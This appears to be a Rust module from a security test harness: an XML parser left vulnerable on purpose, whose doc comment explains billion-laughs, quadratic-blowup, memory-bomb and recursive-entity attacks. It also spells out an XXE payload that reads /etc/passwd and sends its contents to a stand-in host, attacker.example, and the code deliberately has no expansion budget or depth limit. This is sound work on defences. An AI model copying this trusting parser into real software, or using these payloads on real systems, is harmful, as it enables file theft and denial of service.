//! An XML parser that does everything a document's DTD asks.
//!
//! # Vulnerability
//!
//! **The mistake:** entity references are expanded recursively, each one
//! parsed in full wherever it stands, with nothing counting how much output
//! the expansion makes, how deep it goes or whether an entity refers to
//! itself; and external entities and DTDs are fetched through the resolver
//! the application supplied (libxml2 with `XML_PARSE_NOENT |
//! XML_PARSE_DTDLOAD`, Java's default `DocumentBuilderFactory`, PHP before 8
//! with `LIBXML_NOENT`).
//!
//! **CWE-776** (improper restriction of recursive entity references),
//! **CWE-611** (improper restriction of XML external entity reference),
//! **CWE-674** (uncontrolled recursion) and **CWE-789** (memory allocation
//! with excessive size value).
//!
//! **Smallest attacks:**
//! - *Billion laughs:* ten entities, each referring ten times to the one
//!   before, `lol` at the bottom. Under a kilobyte of input expands to about
//!   3×10⁹ bytes (libexpat 2.5 in CPython 3.11 needs about 100 ms just to
//!   refuse a 773-byte one; this twin never refuses).
//! - *Quadratic blowup:* one entity of 10,000 bytes referred to 10,000
//!   times: 40 KB of input, 100 MB of output, and only one level of nesting,
//!   so a depth limit alone does not stop it.
//! - *XXE:* `<!ENTITY x SYSTEM "file:///etc/passwd">` then `&x;` puts the
//!   file in the output. Through a parameter entity and an attacker's DTD the
//!   file can leave inside a URL the parser is made to fetch
//!   (`http://attacker.example/collect?root:x:0:0...`), even when the output
//!   is never shown.
//! - `<!ENTITY a "&a;">` then `&a;`: recursion until the stack runs out;
//!   and 100,000 nested `<a>` tags, one depth level each.
//! - *Memory bomb:* one entity of a thousand `<a/>` referred to a few
//!   hundred times. Its 4,000 bytes are two thousand events, so a budget
//!   that counts bytes sees a hundredth of what the parser holds: 15 KB of
//!   document make 740,000 events (12 MB of them here at 16 bytes each; a
//!   parser with owned events held 69 MB), 326 KB make 16 million.
//!
//! **Defender cost:** output exponential in the input (10ⁿ bytes for n
//! levels), memory in proportion, any file the resolver can reach, and
//! recursion as deep as the document asks. Here the meter's fuses stop the
//! run: output and steps at the fuse, memory at the memory fuse (it is held
//! on the meter before it is allocated), depth at the depth fuse, and the
//! resolver is the [`super::vfs::VirtualFs`] sandbox.
//!
//! **The fix:** [`super::hardened`] charges every expansion, and the events
//! it makes, against an amplification budget, limits the memory a parse
//! holds in proportion to the document, refuses cycles, limits entity and
//! element depth and refuses external entities and DTDs outright.
//!
//! # Time complexity
//!
//! Unbounded: exponential in the number of entity declarations.
//!
//! # Panics
//!
//! None known, not proven: it indexes slices at positions it has checked, and
//! every input the fuzzers and properties have tried ran through
//! `Target::check`, which turns a panic into a `Panic` finding; none has
//! been seen.
//! The meter's fuses stop runaway expansion and recursion. Each level of
//! entity recursion takes a few call frames — measured 591 bytes in a
//! release build and 7 KiB in a debug one — so run deep inputs on a stack
//! sized for the depth fuse (`gauntlet_harnesses::guard::STACK_NEED`).

use super::parser::{self, Expansion, Policy};
use super::{Document, Error, ErrorKind, Resolver};
use crate::meter::Meter;

/// Parses `input`, expanding every entity and fetching every external
/// resource through `resolver`.
///
/// Counts one meter step per token, produces every output byte before
/// appending it, holds the memory it keeps before allocating it, and enters
/// one depth level per element and per entity being expanded; returns
/// [`ErrorKind::Fuse`] when the meter trips.
pub fn parse<'i>(
    input: &'i [u8],
    resolver: &mut dyn Resolver,
    meter: &mut Meter,
) -> Result<Document<'i>, Error> {
    parser::parse(input, &mut Trusting { resolver }, meter)
}

/// The policy that says yes to everything.
struct Trusting<'r> {
    resolver: &'r mut dyn Resolver,
}

impl Trusting<'_> {
    fn fetch(&mut self, uri: &str) -> Result<Vec<u8>, ErrorKind> {
        self.resolver
            .resolve(uri)
            .map_err(|e| ErrorKind::ResolveFailed { uri: e.uri, reason: e.reason.to_owned() })
    }
}

impl Policy for Trusting<'_> {
    fn external_subset(&mut self, uri: &str) -> Result<Vec<u8>, ErrorKind> {
        self.fetch(uri)
    }

    fn declare_external(&mut self, _: &str, _: bool, _: &str) -> Result<(), ErrorKind> {
        Ok(())
    }

    fn external_entity(&mut self, _: &str, _: bool, uri: &str) -> Result<Vec<u8>, ErrorKind> {
        self.fetch(uri)
    }

    /// The mistake is what is missing: no budget, no depth limit, and no
    /// look at `open` to see that the entity is already being expanded.
    fn expand(&mut self, _: Expansion<'_>) -> Result<(), ErrorKind> {
        Ok(())
    }

    /// No limit: the parse holds whatever the document makes it hold.
    fn memory_limit(&mut self, _: usize) -> u64 {
        u64::MAX
    }

    fn element(&mut self, _: usize) -> Result<(), ErrorKind> {
        Ok(())
    }

    fn attribute(&mut self, _: usize) -> Result<(), ErrorKind> {
        Ok(())
    }
}
